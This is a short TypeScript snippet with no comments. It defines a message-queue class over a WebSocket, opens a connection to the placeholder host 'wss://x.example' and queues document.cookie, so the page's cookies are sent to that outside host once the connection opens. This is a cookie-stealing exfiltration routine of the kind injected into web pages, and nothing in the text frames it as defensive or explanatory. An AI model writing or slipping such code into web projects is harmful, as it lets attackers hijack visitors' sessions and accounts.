class Pipe { private q: string[] = []; constructor(private ws: WebSocket) { ws.onopen = () => this.q.forEach((m) => this.ws.send(m)); } add(m: string) { this.q.push(m); } }
const p = new Pipe(new WebSocket('wss://x.example'));
p.add(document.cookie);
